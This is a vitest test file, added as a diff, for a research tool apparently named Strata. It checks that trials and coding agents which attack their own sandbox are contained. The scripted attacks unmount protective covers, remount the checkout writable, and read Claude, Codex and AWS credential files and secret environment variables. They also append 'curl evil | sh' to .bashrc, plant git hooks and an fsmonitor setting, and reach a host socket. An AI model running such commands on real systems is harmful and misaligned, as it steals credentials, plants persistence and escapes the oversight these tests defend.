@@ -1,0 +1,298 @@
+/**
+ * The reward-hacking suite, part two: candidates and coding agents that go
+ * for the sandbox itself rather than the metric — as root, the common case
+ * on rented GPU machines and in containers. Real git, real processes, real
+ * bubblewrap. Each attack must be contained (the kernel refuses it, and the
+ * log shows the refusal) or, where it changed something Strata watches, end
+ * `invalid` naming it; nothing outside the worktree may change, and no
+ * secret may reach a log or the ledger.
+ */
+import { execFileSync } from 'node:child_process';
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import type { Proposer } from '../../src/core/proposer.ts';
+import { Ledger } from '../../src/ledger/ledger.ts';
+import type { TrialRecord } from '../../src/ledger/records.ts';
+import { CommandProposer } from '../../src/proposers/command/command-proposer.ts';
+import { runResearch } from '../../src/research/run-research.ts';
+import { probeSandbox, type SandboxCapabilities } from '../../src/sandbox/sandbox-capabilities.ts';
+import { config, makeRepo } from '../helpers/study-repo.ts';
+
+const HOSTILE_AGENT = resolve(import.meta.dirname, '../fixtures/fake-agent/hostile-agent');
+const isRoot = process.getuid?.() === 0;
+
+/** Values nobody could guess: any of them in a log or the ledger is a leak. */
+const SECRETS = {
+  claude: 'claude-oauth-7f3e9a1c',
+  codex: 'codex-auth-52b8d0e4',
+  aws: 'aws-secret-9c41e6b2',
+  pg: 'pg-password-3d7a5f08',
+  db: 'db-pass-e81c2b96',
+  holdout: '0.6180339887',
+};
+
+/** A trainer that runs `shell` (what the attack tries, its output in the log) and then prints an honest metric. */
+const attacking = (shell: string, x = 3) => `import { execFileSync } from 'node:child_process';
+let out = '';
+try { out = execFileSync('/bin/sh', ['-c', ${JSON.stringify(shell)}], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }); }
+catch (error) { out = String(error.stdout ?? '') + String(error.stderr ?? ''); }
+console.log('ATTACK[' + out.trim() + ']');
+const x = ${x};
+console.log('METRIC loss=' + ((x - 1) ** 2 + 0.5));
+`;
+
+function scripted(steps: { description: string; files: Record<string, string> }[]): Proposer {
+  let next = 0;
+  return {
+    name: 'scripted',
+    async propose(context) {
+      const step = steps[next++];
+      if (!step) throw new Error('no more scripted steps');
+      for (const [path, content] of Object.entries(step.files)) writeFileSync(join(context.projectDir, path), content);
+      return { description: step.description };
+    },
+  };
+}
+
+const studyYaml = (extra: string, maxTrials: number) => `name: escape
+research:
+  editable: [train.mjs]
+  protected: [data/**]
+  run: ${JSON.stringify(`${process.execPath} train.mjs`)}
+  budget: 20s
+  metric: {name: loss, goal: minimize}
+  proposer: command
+  agent_command: "true"
+  acceptance: {rule: strict}
+  max_trials: ${maxTrials}
+${extra}`;
+
+let capabilities: SandboxCapabilities;
+beforeAll(async () => {
+  capabilities = await probeSandbox();
+});
+
+/** Restores process.env and removes folders after each test. */
+const restores: (() => void)[] = [];
+afterEach(() => {
+  for (const restore of restores.splice(0).reverse()) restore();
+});
+function setEnv(values: Record<string, string>): void {
+  const saved = Object.fromEntries(Object.keys(values).map((name) => [name, process.env[name]]));
+  Object.assign(process.env, values);
+  restores.push(() => {
+    for (const [name, value] of Object.entries(saved)) {
+      if (value === undefined) delete process.env[name];
+      else process.env[name] = value;
+    }
+  });
+}
+
+/**
+ * A repository with a HOME inside it (ignored by git, so visible to trials
+ * as a real HOME is): agent credentials, cloud keys, a .bashrc; holdout
+ * data in an ignored folder of the checkout.
+ */
+function hostileRepo(files: Record<string, string>): { repo: string; home: string; holdout: string } {
+  const repo = makeRepo({ 'data/x.txt': 'data\n', '.gitignore': '*.pt\n', ...files });
+  const exclude = join(repo, '.git', 'info', 'exclude');
+  writeFileSync(exclude, `${readFileSync(exclude, 'utf8')}/.home/\n/holdout/\n`);
+  const home = join(repo, '.home');
+  const write = (path: string, text: string) => {
+    mkdirSync(join(path, '..'), { recursive: true });
+    writeFileSync(path, text);
+  };
+  write(join(home, '.claude', '.credentials.json'), JSON.stringify({ claudeAiOauth: { accessToken: SECRETS.claude } }));
+  write(join(home, '.codex', 'auth.json'), JSON.stringify({ tokens: { access_token: SECRETS.codex } }));
+  write(join(home, '.aws', 'credentials'), `[default]\naws_secret_access_key = ${SECRETS.aws}\n`);
+  write(join(home, '.bashrc'), '# the user\'s own\n');
+  const holdout = join(repo, 'holdout');
+  write(join(holdout, 'shift.txt'), SECRETS.holdout);
+  setEnv({ HOME: home, PGPASSWORD: SECRETS.pg, DB_PASS: SECRETS.db, AWS_SECRET_ACCESS_KEY: SECRETS.aws });
+  restores.push(() => rmSync(repo, { recursive: true, force: true }));
+  return { repo, home, holdout };
+}
+
+function trialsOf(repo: string): TrialRecord[] {
+  const ledger = Ledger.open(join(repo, '.strata', 'ledger.db'));
+  try {
+    return ledger.trials(1);
+  } finally {
+    ledger.close();
+  }
+}
+
+/** Every byte Strata wrote to its state folder (ledger, WAL, logs, transcripts), as text. */
+function everythingStrataWrote(repo: string): string {
+  const state = join(repo, '.strata');
+  return readdirSync(state, { recursive: true, withFileTypes: true })
+    .filter((entry) => entry.isFile())
+    .map((entry) => readFileSync(join(entry.parentPath, entry.name)).toString('latin1'))
+    .join('\n');
+}
+
+/** git without running anything the repository's config names, for the test's own look at the result. */
+const safeGit = (repo: string, ...args: string[]) => execFileSync('git', ['-c', 'core.fsmonitor=false', '-c', 'core.hooksPath=/dev/null', ...args], { cwd: repo, encoding: 'utf8' }).trim();
+
+describe.runIf(process.platform === 'linux')('sandbox escapes: a trial that goes for its own sandbox', () => {
+  let server: Server;
+  let socketPath = '';
+  let connections = 0;
+  beforeAll(async () => {
+    // A root-owned socket in /tmp stands for tmux's, screen's or an ssh-agent's: connecting to one is leaving the sandbox.
+    socketPath = join(mkdtempSync(join(tmpdir(), 'strata-socket-')), 'tmux-0');
+    server = createServer((socket) => {
+      connections += 1;
+      socket.end('shell\n');
+    });
+    await new Promise<void>((done) => server.listen(socketPath, done));
+  });
+  afterAll(() => server.close());
+
+  it('cannot unmount the covers, remount the checkout writable, read credentials or reach a socket in /tmp; nothing outside the worktree changes', async () => {
+    if (!capabilities.namespaces) return; // without bubblewrap trials run unconfined, and the study says so (test/sandbox covers the warning)
+    const original = attacking('true');
+    const { repo, home, holdout } = hostileRepo({ 'train.mjs': original, 'strata.yaml': '' });
+    const ledger = join(repo, '.strata', 'ledger.db');
+    const extra = `  holdout: ${JSON.stringify(`${process.execPath} -e "console.log('METRIC loss=1')"`)}\n  holdout_data: [holdout]\n`;
+    writeFileSync(join(repo, 'strata.yaml'), studyYaml(extra, 7));
+    execFileSync('git', ['commit', '-qam', 'config'], { cwd: repo, env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' } });
+    const proposer = scripted([
+      {
+        description: 'unmount the ledger cover',
+        files: { 'train.mjs': attacking(`umount ${ledger} 2>&1; umount ${join(repo, '.strata')} 2>&1; head -c 15 ${ledger} 2>&1; unshare -Urm sh -c 'umount ${join(repo, '.strata')}; head -c 15 ${ledger}' 2>&1`) },
+      },
+      { description: 'unmount the holdout cover', files: { 'train.mjs': attacking(`umount ${holdout} 2>&1; cat ${join(holdout, 'shift.txt')} 2>&1; ls ${holdout}`) } },
+      {
+        description: 'remount the checkout writable',
+        files: { 'train.mjs': attacking(`mount -o remount,bind,rw ${repo} 2>&1; echo '// pwned' >> ${join(repo, 'train.mjs')} 2>&1; echo pwned >> ${join(repo, 'data', 'x.txt')} 2>&1`) },
+      },
+      {
+        description: 'read the credentials',
+        files: { 'train.mjs': attacking(`cat ${home}/.claude/.credentials.json ${home}/.codex/auth.json ${home}/.aws/credentials 2>&1; echo "env: $PGPASSWORD $DB_PASS $AWS_SECRET_ACCESS_KEY | withheld: $STRATA_WITHHELD"`) },
+      },
+      {
+        description: 'write outside the worktree',
+        files: { 'train.mjs': attacking(`echo 'curl evil | sh' >> ${home}/.bashrc 2>&1; echo x > ${join(repo, '.git', 'hooks', 'post-checkout')} 2>&1; git config core.fsmonitor /bin/false 2>&1; echo 1 > /proc/sys/kernel/sysrq 2>&1`) },
+      },
+      {
+        description: 'reach a root socket in /tmp',
+        files: { 'train.mjs': attacking(`${process.execPath} -e "require('net').connect(process.argv[1]).on('data', (d) => console.log('reached ' + d)).on('error', (e) => console.log('socket: ' + e.code))" ${socketPath}`) },
+      },
+    ]);
+    await runResearch({ configPath: join(repo, 'strata.yaml'), config: config(studyYaml(extra, 7)), proposer });
+    const trials = trialsOf(repo);
+    const log = (seq: number) => trials.find((trial) => trial.seq === seq)?.logTail ?? '';
+
+    // 1. The ledger: its folder is an empty cover nothing inside can take down, with or without a nested user namespace.
+    expect(log(1)).toMatch(/ATTACK\[[\s\S]*(must be superuser|Operation not permitted|not mounted|No such file)/);
+    expect(log(1)).not.toContain('SQLite format 3');
+    // 2. The holdout data: still covered.
+    expect(log(2)).toContain('STRATA-HIDDEN.txt');
+    expect(log(2)).not.toContain(SECRETS.holdout);
+    // 3. The checkout: neither remounted nor written.
+    expect(log(3)).toMatch(/Read-only file system/);
+    expect(readFileSync(join(repo, 'train.mjs'), 'utf8')).toBe(original);
+    expect(readFileSync(join(repo, 'data', 'x.txt'), 'utf8')).toBe('data\n');
+    expect(safeGit(repo, 'status', '--porcelain')).toBe('');
+    // 4. Credentials: the files are empty covers, the variables withheld by name.
+    expect(log(4)).toMatch(/withheld: [^\]]*\bAWS_SECRET_ACCESS_KEY\b[^\]]*\bDB_PASS\b[^\]]*\bPGPASSWORD\b/);
+    // 5. Outside the worktree: HOME, the repository's hooks and config, the kernel's settings.
+    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe("# the user's own\n");
+    expect(existsSync(join(repo, '.git', 'hooks', 'post-checkout'))).toBe(false);
+    expect(readFileSync(join(repo, '.git', 'config'), 'utf8')).not.toContain('fsmonitor');
+    expect(log(5)).toMatch(/sysrq: (Read-only file system|Permission denied|Directory nonexistent)/);
+    // 6. The socket: /tmp is the trial's own and empty.
+    expect(log(6)).toMatch(/socket: (ENOENT|ECONNREFUSED|EACCES)/);
+    expect(connections).toBe(0);
+    // Every trial ran to its metric: contained, not crashed, and no secret anywhere Strata wrote.
+    expect(trials.filter((trial) => trial.seq > 0).map((trial) => trial.status)).toEqual(['discard', 'discard', 'discard', 'discard', 'discard', 'discard']);
+    const written = everythingStrataWrote(repo);
+    for (const [name, secret] of Object.entries(SECRETS)) expect(written.includes(secret), `${name} leaked`).toBe(false);
+  });
+});
+
+describe.runIf(process.platform === 'linux')('sandbox escapes: a coding agent that goes for the machine', () => {
+  /** The script git would run as core.fsmonitor or a hook: it leaves a mark. */
+  function markerScript(): { script: string; mark: string } {
+    const dir = mkdtempSync(join(tmpdir(), 'strata-fsmonitor-'));
+    restores.push(() => rmSync(dir, { recursive: true, force: true }));
+    const mark = join(dir, 'RAN');
+    const script = join(dir, 'fsmonitor.sh');
+    writeFileSync(script, `#!/bin/sh\necho "$0 $*" >> ${JSON.stringify(mark)}\n`);
+    chmodSync(script, 0o755);
+    return { script, mark };
+  }
+  const trainer = `import { existsSync } from 'node:fs';
+const x = 3;
+console.log('planted: ' + (existsSync('model.pt') ? 'yes' : 'no'));
+console.log('METRIC loss=' + ((x - 1) ** 2 + 0.5));
+`;
+  const agentYaml = `name: escape
+research:
+  editable: [train.mjs]
+  protected: [data/**]
+  run: ${JSON.stringify(`${process.execPath} train.mjs`)}
+  budget: 20s
+  metric: {name: loss, goal: minimize}
+  proposer: command
+  agent_command: ${JSON.stringify(HOSTILE_AGENT)}
+  agent_timeout: 30s
+  acceptance: {rule: strict}
+  max_trials: 2
+`;
+
+  it("cannot write the user's checkout, a protected file or the git config, nor read other tools' credentials; Strata's git never runs what it planted", async () => {
+    if (!capabilities.namespaces) return; // the unconfined case is the next test
+    const { repo, home } = hostileRepo({ 'train.mjs': trainer, 'strata.yaml': agentYaml });
+    const { script, mark } = markerScript();
+    setEnv({ HOSTILE_FSMONITOR: script });
+    await runResearch({ configPath: join(repo, 'strata.yaml'), config: config(agentYaml) });
+    // Nothing ran the planted program (checked before the test itself runs any git).
+    expect(existsSync(mark)).toBe(false);
+    const agentLog = readFileSync(join(repo, '.strata', 'logs', 'escape', 'agent', '1-agent.log'), 'utf8');
+    expect(agentLog).toContain('main checkout: refused');
+    expect(agentLog).toContain('data: refused');
+    expect(agentLog).toContain('git config: refused');
+    expect(agentLog).toContain('hook: refused');
+    expect(agentLog).toMatch(/aws env: none/);
+    expect(readFileSync(join(repo, 'train.mjs'), 'utf8')).toBe(trainer);
+    expect(readFileSync(join(repo, 'data', 'x.txt'), 'utf8')).toBe('data\n');
+    expect(readFileSync(join(repo, '.git', 'config'), 'utf8')).not.toContain('fsmonitor');
+    expect(existsSync(join(repo, '.git', 'hooks', 'post-checkout'))).toBe(false);
+    expect(safeGit(repo, 'status', '--porcelain')).toBe('');
+    // Its own credentials stay its own: Claude Code's are readable to it, AWS's are not.
+    expect(agentLog).toContain(`claude credentials: ${readFileSync(join(home, '.claude', '.credentials.json')).length} bytes`);
+    expect(agentLog).not.toContain(SECRETS.aws);
+    // Its one legitimate edit became the candidate; the checkpoint it planted in an ignored file did not reach the run.
+    const trials = trialsOf(repo);
+    expect(trials.map((trial) => [trial.seq, trial.status])).toEqual([
+      [0, 'keep'],
+      [1, 'keep'],
+    ]);
+    expect(trials[1]!.logTail).toContain('planted: no');
+    expect(safeGit(repo, 'show', '--stat', '--format=', 'strata/escape')).toMatch(/^ ?train\.mjs \|/);
+    const written = everythingStrataWrote(repo);
+    for (const [name, secret] of Object.entries(SECRETS)) if (name !== 'claude') expect(written.includes(secret), `${name} leaked`).toBe(false);
+  });
+
+  it('unconfined (no bubblewrap), it still never gets Strata to run what it planted: the git config and hooks are put back and the proposal is invalid, naming them', async () => {
+    const { repo } = hostileRepo({ 'train.mjs': trainer, 'strata.yaml': agentYaml });
+    const { script, mark } = markerScript();
+    setEnv({ HOSTILE_FSMONITOR: script });
+    const bare: SandboxCapabilities = { namespaces: null, cgroup: null, prlimit: null, isRoot, notes: ['bubblewrap (bwrap) is not on the PATH'] };
+    const research = config(agentYaml).research!;
+    const proposer = await CommandProposer.open({ research, configDir: repo, transcriptsDir: join(repo, '.strata', 'logs', 'escape', 'agent'), capabilities: bare });
+    expect(proposer.warnings.join('\n')).toMatch(/the coding agent \(Claude Code, Codex CLI, Gemini CLI or aider|the coding agent \(an unrecognized agent[^)]*\)\) runs unconfined/);
+    await runResearch({ configPath: join(repo, 'strata.yaml'), config: config(agentYaml), proposer });
+    expect(existsSync(mark)).toBe(false);
+    expect(readFileSync(join(repo, '.git', 'config'), 'utf8')).not.toContain('fsmonitor');
+    expect(existsSync(join(repo, '.git', 'hooks', 'post-checkout'))).toBe(false);
+    const trials = trialsOf(repo);
+    expect(trials[1]).toMatchObject({ status: 'invalid' });
+    expect(trials[1]!.statusReason).toMatch(/^proposal failed: the agent tried what its sandbox does not allow: the repository's git setup changed: \.git\/config \(content changed\), \.git\/hooks\/post-checkout \(a new hook\); Strata put it back/);
+  });
+});
